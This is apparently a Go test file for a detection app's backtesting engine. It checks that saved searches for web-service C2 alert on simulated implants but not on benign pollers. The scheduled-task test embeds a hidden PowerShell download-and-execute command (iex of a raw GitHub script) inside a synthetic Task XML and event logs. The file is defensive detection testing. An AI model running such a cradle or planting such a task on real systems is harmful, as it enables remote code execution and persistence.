package backtest

import (
	"context"
	"encoding/csv"
	"fmt"
	"maps"
	"math"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/t1102app/t1102/src/internal/fleet"
)

// The saved searches the fleet test schedules, and the backfill a user
// runs once when enabling them.
const (
	alertSearch    = "T1102.003 - Web Service One-Way C2"
	baselineSearch = "T1102.003 - Fleet baseline"
	backfillSearch = "T1102.003 - Fleet baseline backfill"
)

// fleetOutcome is what one backtest of the fleet raised.
type fleetOutcome struct {
	benign        []Alert              // alerts on benign actors
	firstAlert    map[string]time.Time // implant actor|host → its first alert
	unknown       []Alert              // alerts matching no actor (must be none)
	firstDay      int                  // alerts (benign or not) within the first 24 hours
	benignFirstDy int
}

// TestFleet runs the app's shipped schedule (the alert, hourly, and the
// fleet baseline) with the backtest over three days of a 52-host fleet
// (testdata/fleet/actors.csv: ordinary pollers, some no allowlist names,
// and implants of every kind the detection is for), once after the
// backfill a user runs when enabling the detection and once without it.
func TestFleet(t *testing.T) {
	if testing.Short() {
		t.Skip("runs three days of hourly searches through the real commands")
	}
	actors, err := fleet.Load(filepath.Join("..", "..", "testdata", "fleet", "actors.csv"))
	require.NoError(t, err)
	start := time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC) // a Monday
	const days = 3
	fl := fleet.Generate(actors, start, days, 1)
	dir := t.TempDir()
	evFile := filepath.Join(dir, "fleet.csv")
	f, err := os.Create(evFile)
	require.NoError(t, err)
	require.NoError(t, fleet.WriteCSV(f, fl.Events))
	require.NoError(t, f.Close())
	events, err := ReadEvents([]string{evFile}, DefaultSource)
	require.NoError(t, err)
	cmds := maps.Clone(appBins) // built by TestMain
	app, err := LoadApp(filepath.Join("..", ".."))
	require.NoError(t, err)

	// The third request of each implant on each host: when polling can
	// first be seen.
	third := map[string]time.Time{}
	count := map[string]int{}
	for _, r := range fl.Requests {
		if r.Actor.Label != "implant" {
			continue
		}
		k := r.Actor.Name + "|" + r.Host
		if count[k]++; count[k] == 3 {
			third[k] = r.Time
		}
	}

	run := func(t *testing.T, first []string) fleetOutcome {
		st, err := OpenState("", app, false)
		require.NoError(t, err)
		defer st.Close()
		e := &Engine{App: app, State: st, Events: events, Indexers: 3, Commands: cmds}
		rep, err := Run(context.Background(), e, Options{From: start, To: start.Add(days * 24 * time.Hour),
			Searches: []string{alertSearch, baselineSearch}, First: first})
		require.NoError(t, err)
		out := fleetOutcome{firstAlert: map[string]time.Time{}}
		for _, a := range rep.Alerts {
			require.Equal(t, alertSearch, a.Search)
			host, image := strings.Join(a.Get("dest"), ""), strings.Join(a.Get("process_path"), "")
			var actor *fleet.Actor
			for i := range actors {
				if contains(actors[i].Hosts, host) && strings.EqualFold(strings.ReplaceAll(actors[i].Image, "{user}", fleet.User(host)), image) {
					actor = &actors[i]
				}
			}
			if a.Time.Before(start.Add(24 * time.Hour)) {
				out.firstDay++
			}
			switch {
			case actor == nil:
				out.unknown = append(out.unknown, a)
			case actor.Label == "benign":
				out.benign = append(out.benign, a)
				if a.Time.Before(start.Add(24 * time.Hour)) {
					out.benignFirstDy++
				}
			default:
				k := actor.Name + "|" + host
				if _, seen := out.firstAlert[k]; !seen {
					out.firstAlert[k] = a.Time
				}
			}
		}
		require.Empty(t, out.unknown, "every alert is an actor's")
		return out
	}
	describe := func(as []Alert) string {
		var b strings.Builder
		for _, a := range as {
			fmt.Fprintf(&b, "\n  %s %s %s risk %s: %s", a.Time.Format(time.RFC3339), strings.Join(a.Get("dest"), ""), strings.Join(a.Get("process_name"), ""),
				strings.Join(a.Get("risk_score"), ""), strings.Join(a.Get("t1102_reasons"), "; "))
		}
		return b.String()
	}

	t.Run("after the backfill", func(t *testing.T) {
		t.Parallel() // the two backtests share only what they read
		out := run(t, []string{backfillSearch})
		require.Empty(t, out.benign, "ordinary software raises nothing once the baseline has learned:%s", describe(out.benign))
		// Per implant: hosts alerted, and the hours from each host's third
		// request to its first alert (never negative: an alert follows the
		// requests it judges).
		type figure struct {
			hosts, alerted int
			lo, hi         float64
		}
		figures := map[string]*figure{}
		var names []string
		for k, at3 := range third {
			name := strings.Split(k, "|")[0]
			f := figures[name]
			if f == nil {
				f = &figure{lo: math.Inf(1), hi: math.Inf(-1)}
				figures[name] = f
				names = append(names, name)
			}
			f.hosts++
			at, alerted := out.firstAlert[k]
			if name == "daily-twitter" {
				// Once a day is one request a day: a day's memory holds
				// too few to call it polling, and one request of an
				// unknown program is not enough to alert ([polling]
				// memory = 604800 would see it).
				require.False(t, alerted, "%s: the daily poller is beyond a one-day memory", k)
				continue
			}
			require.True(t, alerted, "implant %s alerted", k)
			h := at.Sub(at3).Hours()
			require.GreaterOrEqual(t, h, 0.0, "%s: an alert follows the requests it judges", k)
			require.Less(t, h, 24.0, "%s alerts within a day of its third request", k)
			f.alerted++
			f.lo, f.hi = math.Min(f.lo, h), math.Max(f.hi, h)
		}
		sort.Strings(names)
		for _, n := range names {
			f := figures[n]
			if f.alerted == 0 {
				t.Logf("implant %-18s %2d host(s): not alerted", n, f.hosts)
				continue
			}
			t.Logf("implant %-18s %2d host(s), %2d alerted: %.1f-%.1f h from the third request to the first alert", n, f.hosts, f.alerted, f.lo, f.hi)
		}
	})
	t.Run("without a backfill", func(t *testing.T) {
		t.Parallel() // the two backtests share only what they read
		out := run(t, nil)
		t.Logf("without the backfill: %d alerts on the first day, %d of them on ordinary software; %d benign alerts in all", out.firstDay, out.benignFirstDy, len(out.benign))
		for k := range third {
			if !strings.HasPrefix(k, "daily-twitter") {
				require.Contains(t, out.firstAlert, k, "implant %s alerts without a baseline too", k)
			}
		}
	})
}

func contains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}

// TestTaskRaisedAtCreation runs the shipped alert over a task created to
// run iex of a raw GitHub file every hour (Security 4698), and its hourly
// runs (a new PowerShell each time): the alert is raised by the first
// scheduled run that reads the creation, before the task has run, with its
// author; the runs join the task's identity and are throttled with it.
func TestTaskRaisedAtCreation(t *testing.T) {
	if testing.Short() {
		t.Skip("runs hourly searches through the real commands")
	}
	dir := t.TempDir()
	created := time.Date(2026, 11, 23, 9, 14, 2, 0, time.UTC)
	args := `-NoProfile -WindowStyle Hidden -Command "iex(iwr https://raw.githubusercontent.com/eve/cfg/main/u.ps1 -UseBasicParsing)"`
	content := `<?xml version="1.0" encoding="UTF-16"?>` + "\r\n" + `<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">` +
		`<RegistrationInfo><Author>CORP\eve</Author><URI>\Sync</URI></RegistrationInfo>` +
		`<Triggers><TimeTrigger><Repetition><Interval>PT1H</Interval></Repetition><StartBoundary>2026-11-23T10:00:00</StartBoundary></TimeTrigger></Triggers>` +
		`<Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>` +
		`<Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>` + strings.ReplaceAll(args, `"`, "&quot;") + `</Arguments></Exec></Actions></Task>`
	var b strings.Builder
	w := csvWriter(&b)
	w([]string{"_time", "host", "source", "EventCode", "ProcessGuid", "ProcessId", "Image", "OriginalFileName", "CommandLine", "ParentImage", "User",
		"QueryName", "QueryResults", "DestinationIp", "TaskName", "TaskContent", "SubjectUserName", "SubjectDomainName"})
	w([]string{created.Format(time.RFC3339), "WKS-033", "XmlWinEventLog:Security", "4698", "", "", "", "", "", "", "", "", "", "", `\Sync`, content, "eve", "CORP"})
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	for i := 1; i <= 4; i++ {
		at := time.Date(2026, 11, 23, 9+i, 0, 0, 0, time.UTC)
		g, pid := fmt.Sprintf("{5d2e7a10-55%02d-6741-aa01-000000000f20}", i), fmt.Sprint(3000+i)
		w([]string{at.Format(time.RFC3339), "WKS-033", "", "1", g, pid, ps, "PowerShell.EXE", "powershell.exe " + args, `C:\Windows\System32\svchost.exe`, `NT AUTHORITY\SYSTEM`, "", "", "", "", "", "", ""})
		w([]string{at.Add(time.Second).Format(time.RFC3339), "WKS-033", "", "22", g, pid, ps, "", "", "", `NT AUTHORITY\SYSTEM`, "raw.githubusercontent.com", "::ffff:185.199.108.133;", "", "", "", "", ""})
		w([]string{at.Add(2 * time.Second).Format(time.RFC3339), "WKS-033", "", "3", g, pid, ps, "", "", "", `NT AUTHORITY\SYSTEM`, "", "", "185.199.108.133", "", "", "", ""})
	}
	evFile := filepath.Join(dir, "task.csv")
	require.NoError(t, os.WriteFile(evFile, []byte(b.String()), 0o644))
	events, err := ReadEvents([]string{evFile}, DefaultSource)
	require.NoError(t, err)
	cmds := maps.Clone(appBins) // built by TestMain
	app, err := LoadApp(filepath.Join("..", ".."))
	require.NoError(t, err)
	st, err := OpenState("", app, false)
	require.NoError(t, err)
	defer st.Close()
	e := &Engine{App: app, State: st, Events: events, Indexers: 2, Commands: cmds}
	from, to := time.Date(2026, 11, 23, 9, 0, 0, 0, time.UTC), time.Date(2026, 11, 23, 15, 0, 0, 0, time.UTC)
	rep, err := Run(context.Background(), e, Options{From: from, To: to, Searches: []string{alertSearch, baselineSearch}})
	require.NoError(t, err)
	require.NotEmpty(t, rep.Alerts, "the task raises an alert")
	first := rep.Alerts[0]
	require.Equal(t, `\Sync`, strings.Join(first.Get("t1102_task"), ""))
	require.Equal(t, `CORP\eve`, strings.Join(first.Get("t1102_task_author"), ""))
	require.True(t, first.Time.Before(time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC).Add(10*time.Minute)), "raised before its first run was judged: %s", first.Time)
	require.LessOrEqual(t, first.Time.Sub(created), 70*time.Minute, "within the alert's window and period")
	require.Len(t, rep.Alerts, 1, "its runs are the task's identity, throttled with it: %v", rep.Alerts)
	t.Logf("task created %s, alert raised %s (%.0f min later), risk %s; %d alert(s) in %s of hourly runs",
		created.Format("15:04:05"), first.Time.Format("15:04"), first.Time.Sub(created).Minutes(), strings.Join(first.Get("risk_score"), ""), len(rep.Alerts), to.Sub(from))
}

// csvWriter returns a function writing one CSV record to b.
func csvWriter(b *strings.Builder) func([]string) {
	w := csv.NewWriter(b)
	return func(rec []string) {
		_ = w.Write(rec)
		w.Flush()
	}
}
